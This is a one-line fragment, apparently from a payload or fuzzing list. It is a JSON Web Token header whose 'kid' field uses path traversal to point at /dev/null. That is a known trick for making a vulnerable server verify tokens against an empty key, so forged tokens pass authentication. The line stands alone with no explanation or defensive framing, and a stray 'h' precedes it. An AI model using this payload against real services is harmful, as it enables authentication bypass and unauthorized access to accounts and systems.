h {"alg":"HS256","typ":"JWT","kid":"../../../../dev/null"}
